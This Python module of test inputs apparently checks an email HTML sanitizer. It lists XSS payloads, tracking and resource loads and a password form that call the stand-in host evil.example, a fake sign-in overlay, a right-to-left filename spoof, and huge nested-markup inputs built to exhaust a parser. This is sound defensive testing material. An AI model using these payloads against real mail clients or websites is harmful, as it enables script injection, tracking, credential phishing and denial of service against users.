"""Mails that somebody wrote to run, load, submit or deceive. Each says where it would be noticed: at evil.example."""

# ruff: noqa: E501 - each mail on a line
from typing import Final

AT: Final = "http://evil.example"
RUN: Final = "alert('run')"
MAILS: Final = {
    "script": f"<script>{RUN}</script><script src='{AT}/s.js'></script>",
    "script in a comment that is none": f"<!--><script>{RUN}</script>-->",
    "conditional comments in each other": f"<!--[if gte mso 9]><!--[if mso]><p><![endif]--><script>{RUN}</script><![endif]-->",
    "event handlers": f"<p onclick=\"{RUN}\" onmouseover={RUN}>x</p><img src=x onerror=\"{RUN}\"><details open ontoggle={RUN}>",
    "body and frames": f"<body onload={RUN}><iframe srcdoc='<script>{RUN}</script>'></iframe><frameset onload={RUN}>",
    "vector picture": f"<svg onload={RUN}><script>{RUN}</script><image href='{AT}/i.svg'/><a xlink:href='javascript:{RUN}'>x</a></svg>",
    "formulas": f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    "text that is parsed twice": f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
    "title that ends early": f"<title><a title='</title><img src=x onerror={RUN}>'>",
    "links that run": f"<a id=go href='javascript:{RUN}'>a</a><a href='JaVaScRiPt:{RUN}'>b</a><a href='vbscript:{RUN}'>c</a>",
    "links that run, in disguise": f"<a id=go href='&#106;ava&#115;cript:{RUN}'>a</a><a href=' java\tscript\n:{RUN}'>b</a><a href='\x01javascript:{RUN}'>c</a>",
    "links with pages in them": f"<a id=go href='data:text/html,<script>{RUN}</script>'>a</a><a href='blob:{AT}/x'>b</a>",
    "tracking pixels": f"<img src='{AT}/p.gif' width=1 height=1><img srcset='{AT}/p2.gif 1x'><picture><source srcset='{AT}/p3.gif'></picture>",
    "other media": f"<video poster='{AT}/v.png' src='{AT}/v.mp4' autoplay></video><audio src='{AT}/a.mp3' autoplay></audio><embed src='{AT}/e'><object data='{AT}/o'></object>",
    "old backgrounds": f"<table background='{AT}/b.png'><tr><td background='{AT}/c.png'>x</td></tr></table><body background='{AT}/d.png'>",
    "style sheets": f"<style>@import '{AT}/i.css'; body {{ background: url({AT}/b.png) }}</style><link rel=stylesheet href='{AT}/l.css'><link rel=prefetch href='{AT}/p'>",
    "styles that load": f"<p style=\"background:url({AT}/b.png);background-image:image-set('{AT}/c.png' 1x);list-style:url({AT}/d.png);cursor:url({AT}/e.cur)\">x</p>",
    "styles that load, in disguise": f"<p style=\"background:\\75rl({AT}/b.png);background:u/**/rl({AT}/c.png);color:expression({RUN});behavior:url({AT}/d.htc)\">x</p>",
    "styles that cover the page": "<div style='position:fixed;top:0;left:0;z-index:9999;margin:-900px;width:100%'>Sign in again</div>",
    "forms": f"<form action='{AT}/f' id=f><input name=password><button id=go>Sign in</button></form><button form=f formaction='{AT}/g'>x</button>",
    "refresh": f"<meta http-equiv=refresh content='0; url={AT}/m'><meta http-equiv=Set-Cookie content='a=b'>",
    "base": f"<base href='{AT}/' target=_top><a href='x'>relative</a><img src='y.png'>",
    "pictures of the mail itself": "<img src='cid:part1@acme'><img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "pages of ours": "<a href='/sign-out'>a</a><a href='//evil.example/x'>b</a><img src='/review'><a href='../../users'>c</a>",
    "text turned around": "<p>invoice_\u202efdp.exe &#x202e;&#8294;x</p><bdo dir=rtl>exe</bdo><p style='unicode-bidi:bidi-override;direction:rtl'>x</p>",
    "custom elements": f"<x-a href='javascript:{RUN}'>a</x-a><x-b onclick={RUN}>b</x-b>",
    "what is broken": f"<a href=\"{AT}/<img src=x onerror={RUN}>\"><<p <b>><img \"\"\"><script>{RUN}</script>\">",
}  # fmt: skip
TANGLED: Final = {
    "a table of five megabytes": "<table>" + "<tr><td>x</td></tr>" * 300_000,
    "tables in tables": "<table><tr><td>" * 300_000,
    "blocks in blocks": "<div>" * 1_000_000,
    "lists in lists": "<ul><li>" * 600_000,
    "letters that are never closed": "".join(f"<b id={n}>" for n in range(30_000)) + "<p>" * 80_000,
    "attributes": f"<p {' '.join(f'a{n}' for n in range(600_000))}>x",
    "attributes behind a quote": f"<p title='>' {' '.join(f'a{n}' for n in range(60_000))}>x",
    "ampersands": "&" * 5_000_000,
    "hard spaces": "&nbsp;" * 800_000,
    "angles": "<" * 5_000_000,
    "links": "<a href='http://acme.example'>" * 200_000,
    "styles": f"<p style='{'color:red;' * 400}'>" * 1_000,
    "tags without end": "<a " * 1_000_000,
    "quotes without end": "<p " + '="' * 200_001,
    "comments": "<!--" * 1_000_000,
}
